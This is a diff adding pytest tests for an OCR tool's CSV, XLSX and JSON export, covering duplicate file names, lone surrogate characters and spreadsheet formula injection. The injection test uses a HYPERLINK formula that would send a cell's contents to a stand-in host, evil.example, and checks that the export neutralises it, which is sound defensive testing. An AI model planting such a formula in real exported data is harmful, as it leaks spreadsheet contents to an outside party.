@@ -121,6 +121,40 @@ def test_csv_holds_the_same_cells_as_text(template, documents):
     assert b[-1] == "3"
 
 
+def test_csv_values_that_begin_like_a_formula_are_quoted_so_no_spreadsheet_runs_them(template):
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"ГБУ")'
+    result = run(template, [("customer_name", formula, 0), ("contact_phone", "+7 (495) 241-15-07", 0)])
+    header, row = csv.reader(io.StringIO(sheet_bytes([("a.pdf", result)], template, "csv").decode("utf-8-sig")))
+    assert row[column(header, "Customer")] == "'" + formula
+    assert row[column(header, "Contact phone")] == "'+7 (495) 241-15-07"
+    # The workbook keeps them as they are: its cells are text, never formulas.
+    sheet = load_workbook(io.BytesIO(sheet_bytes([("a.pdf", result)], template, "xlsx"))).active
+    cells = [cell.value for cell in list(sheet.iter_rows())[1]]
+    assert cells[column(header, "Customer")] == formula
+
+
+def test_documents_of_one_name_are_rows_named_apart(template, documents):
+    twins = [("invoice.png", documents[0][1]), ("invoice.png", documents[1][1]), ("invoice.pdf", documents[0][1])]
+    rows = list(csv.reader(io.StringIO(sheet_bytes(twins, template, "csv").decode("utf-8-sig"))))
+    names = ["invoice.png", "invoice (2).png", "invoice (3).pdf"]
+    assert [row[0] for row in rows[1:]] == names
+    assert [r["document"] for r in json.loads(sheet_bytes(twins, template, "json"))] == names
+
+
+def test_a_lone_surrogate_read_or_typed_is_writable_everywhere(template):
+    """JSON's "\\ud800" decodes to a lone surrogate: read by a rule or typed by a person, it
+    becomes "?" as it enters a field, so no sheet or history row fails on it."""
+    from models.fields.collect import correct
+
+    result = run(template, [("customer_name", "ГБУ \ud800 Арбат", 0)])
+    result.fields = correct(template, result.fields, "subject", "Уборка \udfff")
+    fields = {f.name: f for f in OCRResult.model_validate_json(result.model_dump_json()).fields}
+    assert fields["customer_name"].value == "ГБУ ? Арбат" and fields["customer_name"].found[0].value == "ГБУ ? Арбат"
+    assert (fields["subject"].value, fields["subject"].normalized) == ("Уборка ?", "Уборка ?")
+    for fmt in ("xlsx", "csv", "json"):
+        assert sheet_bytes([("a.pdf", result)], template, fmt)
+
+
 def test_json_is_keyed_by_field_names(template, documents):
     records = json.loads(sheet_bytes(documents, template, "json", lang="ru"))
     assert [r["document"] for r in records] == ["a.pdf", "b.png"]
